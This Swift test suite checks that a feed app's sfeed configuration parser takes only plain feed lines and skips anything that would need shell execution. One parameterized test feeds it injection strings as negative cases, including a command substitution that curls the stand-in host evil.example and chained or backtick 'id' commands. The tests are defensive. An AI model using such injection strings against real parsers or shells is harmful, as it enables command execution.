import Testing

@testable import Feeds

@Suite(.timeLimit(.minutes(10)))
struct SfeedConfigurationTests {
    private let notPlain = "only plain lines such as feed \"name\" \"address\" are read; nothing is run"

    private func feeds(_ lines: String) -> SubscriptionList { SfeedConfiguration.read("feeds() {\n\(lines)\n}\n") }

    @Test func aCallOfFeedIsASubscription() {
        let list = feeds(
            """
            \t# feed <name> <feedurl> [basesiteurl] [encoding]
            \tfeed "codemadness" "https://www.codemadness.org/atom_content.xml"
            \tfeed 'linux kernel' https://www.kernel.org/feeds/kdist.xml "https://www.kernel.org"
            """
        )
        #expect(
            list.subscriptions == [
                Subscription(address: "https://www.codemadness.org/atom_content.xml", name: "codemadness", line: 3),
                Subscription(
                    address: "https://www.kernel.org/feeds/kdist.xml",
                    name: "linux kernel",
                    site: "https://www.kernel.org",
                    line: 4
                ),
            ]
        )
        #expect(list.remarks == [])
    }

    @Test func anEncodingIsReportedAndTheFeedTaken() {
        let list = feeds(#"feed "t" "http://t.example/f" "" "iso-8859-1""#)
        #expect(list.subscriptions.map(\.address) == ["http://t.example/f"])
        #expect(list.remarks.map(\.effect) == [.changed])
        #expect(list.remarks.first?.reason.contains("iso-8859-1") == true)
    }

    @Test func quotesAndBackslashesMeanWhatTheyMeanInAShell() {
        #expect(
            ShellWords.plain(#"feed "a \"b\" \c" 'd "e" \f' g\ h i"j"'k' # l"#) == [
                "feed", #"a "b" \c"#, #"d "e" \f"#, "g h", "ijk",
            ]
        )
        #expect(ShellWords.plain(#"feed a#b """#) == ["feed", "a#b", ""])
        let list = SfeedConfiguration.read("feeds() {\n feed \"two\" \\\n  \"https://a.example/f\"\n}")
        #expect(list.subscriptions.map(\.line) == [2])
    }

    @Test(arguments: [
        #"feed "x" "$(curl http://evil.example)""#, "feed x `id`", #"feed "x" "$HOME/f""#,
        "feed x http://a.example/ && id",
        "feed x http://a.example/; id", "feed x 'http://a.example/", "feed x", "for i in 1 2; do", "touch /tmp/x",
        "feed a b c d e f", "feed x http://a.example/ > /tmp/x",
    ])
    func whatWouldHaveToBeRunIsReportedAndNotRead(line: String) {
        let list = feeds(line)
        #expect(list.subscriptions == [])
        #expect(list.remarks == [.init(.skipped, line: 2, what: line, reason: notPlain)])
    }

    @Test func onlyTheFunctionOfFeedsIsRead() {
        let list = SfeedConfiguration.read(
            """
            #sfeedpath="$HOME/.sfeed/feeds"
            maxjobs=4
            fetch() {
            \tcurl -L "$2"
            \tfeed "no" "https://no.example/"
            }

            feeds()
            {
            \tfeed "yes" "https://yes.example/"
            }
            feed "late" "https://late.example/"
            """
        )
        #expect(list.subscriptions.map(\.address) == ["https://yes.example/"])
        #expect(
            list.remarks == [
                .init(.changed, line: 3, what: "fetch()", reason: "functions of sfeedrc are not taken over")
            ]
        )
    }

    @Test(arguments: [
        "fetch() {\n curl \"$2\"\n }\nfeeds() {\n feed a https://a.example/\n}",
        "fetch() (\n curl \"$2\"\n)\nfeeds() {\n feed a https://a.example/\n}",
        "fetch() { curl \"$2\"; } # mine\nfeeds() {\n feed a https://a.example/\n}",
        "feeds() { feed a https://a.example/\n}", "feeds() (\n feed a https://a.example/\n)",
        "feeds() # mine\n{ # these\n feed a https://a.example/\n}",
    ])
    func noWayToWriteFunctionsLosesAFeed(text: String) {
        let list = SfeedConfiguration.read(text)
        #expect(list.subscriptions.map(\.address) == ["https://a.example/"])
        #expect(!list.remarks.contains { $0.effect == .skipped })
    }

    @Test func whatEndsWithinTheFunctionIsNotItsEnd() {
        let list = feeds("if true; then {\nfeed a https://a.example/\n}\nfi\nfeed b https://b.example/")
        #expect(list.subscriptions.map(\.address) == ["https://a.example/", "https://b.example/"])
        #expect(list.remarks.map(\.what) == ["if true; then {", "fi"])
    }

    @Test func aFileWithoutTheFunctionSaysSo() {
        #expect(
            SfeedConfiguration.read("maxjobs=4\n").remarks == [
                .init(.skipped, what: "feeds()", reason: "there is no such function")
            ]
        )
    }

    @Test func aFunctionOnOneLineIsReported() {
        let list = SfeedConfiguration.read(
            "feeds() { feed a https://a.example/; }\nfeeds() {\nfeed b https://b.example/\n}"
        )
        #expect(list.subscriptions.map(\.address) == ["https://b.example/"])
        #expect(list.remarks == [.init(.skipped, line: 1, what: "feeds()", reason: notPlain)])
    }
}
